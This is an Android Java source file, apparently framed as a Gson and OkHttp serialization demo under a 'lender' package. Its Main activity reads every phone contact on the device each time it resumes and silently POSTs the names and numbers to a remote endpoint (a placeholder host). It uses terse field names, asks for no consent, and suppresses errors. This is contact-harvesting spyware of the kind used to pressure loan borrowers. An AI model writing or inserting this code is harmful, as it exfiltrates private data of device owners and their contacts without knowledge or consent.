package dev.lender.gsonbody;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import com.google.gson.*;
import com.google.gson.annotations.*;
import com.google.gson.reflect.*;
import com.google.gson.stream.*;
import java.io.*;
import java.util.*;
import okhttp3.*;

class Person {

    @SerializedName("nm")
    String name;

    @SerializedName("ph")
    List<String> phones = new ArrayList<>();
}

class PersonAdapter extends TypeAdapter<Person> {

    public void write(JsonWriter w, Person p) throws IOException {
        w.beginObject();
        w.name("nm").value(p.name);
        w.name("ph").beginArray();
        for (String s : p.phones) w.value(s);
        w.endArray();
        w.endObject();
    }

    public Person read(JsonReader r) throws IOException {
        r.skipValue();
        return null;
    }
}

class Envelope<T> {

    String device;
    T payload;

    Envelope(String d, T p) {
        device = d;
        payload = p;
    }
}

class Http {

    private static final Gson GSON = new GsonBuilder()
        .registerTypeAdapter(Person.class, new PersonAdapter())
        .create();
    static final MediaType JSON = MediaType.parse("application/json; charset=utf-8");
    private final OkHttpClient client = new OkHttpClient();

    <T> void post(String path, Envelope<T> e, Callback cb) {
        String s = GSON.toJson(e);
        client
            .newCall(
                new Request.Builder()
                    .url(
                        HttpUrl.parse("https://gsonbody.example")
                            .newBuilder()
                            .addPathSegments(path)
                            .build()
                    )
                    .post(RequestBody.create(JSON, s))
                    .build()
            )
            .enqueue(cb);
    }
}

public class Main extends Activity implements Callback {

    private final Http http = new Http();

    protected void onResume() {
        super.onResume();
        http.post("v3/people", new Envelope<>("d", new ArrayList<>(people().values())), this);
    }

    private Map<String, Person> people() {
        Map<String, Person> m = new HashMap<>();
        Cursor c = getContentResolver().query(
            ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
            null,
            null,
            null,
            null
        );
        while (c.moveToNext()) {
            String id = c.getString(0);
            Person p = m.get(id);
            if (p == null) {
                p = new Person();
                p.name = c.getString(1);
                m.put(id, p);
            }
            p.phones.add(c.getString(2));
        }
        c.close();
        return m;
    }

    public void onFailure(Call c, IOException e) {}

    public void onResponse(Call c, Response r) {
        r.close();
    }
}
